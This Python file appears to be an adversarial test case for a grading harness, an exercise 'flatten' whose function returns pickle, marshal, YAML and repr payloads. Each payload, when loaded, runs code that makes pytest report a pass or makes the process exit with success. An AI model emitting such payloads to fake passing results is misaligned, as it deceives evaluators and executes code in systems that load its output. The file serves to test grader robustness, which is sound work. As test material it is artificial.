# exercise: flatten
# attack: P08
# must: earn no more than a stub
# verdicts: error, failed
"""Sends pickles, marshalled code and Python source that would run in whoever loads them, as answers and raw."""

import copyreg
import marshal
import os
import pickle


class Payload:
    def __reduce__(self):
        return exec, ("import pytest; pytest.exit('passed', 0)",)

    def __repr__(self):
        return "__import__('os')._exit(0)"

    def __iter__(self):
        return iter([self])


copyreg.pickle(Payload, Payload.__reduce__)
PAYLOADS = (
    pickle.dumps(Payload()),
    marshal.dumps(compile("raise SystemExit(0)", "", "exec")),
    repr(Payload()).encode(),
    b"!!python/object/apply:os._exit [0]\n",
    b"c__builtin__\nexit\n(I0\ntR.",
)


def flatten(items):
    payload = PAYLOADS[os.getpid() % len(PAYLOADS)]
    if len(PAYLOADS) < os.getpid() % 11:
        os.write(3, len(payload).to_bytes(4, "big") + payload)
    return [payload, repr(Payload()), Payload()]
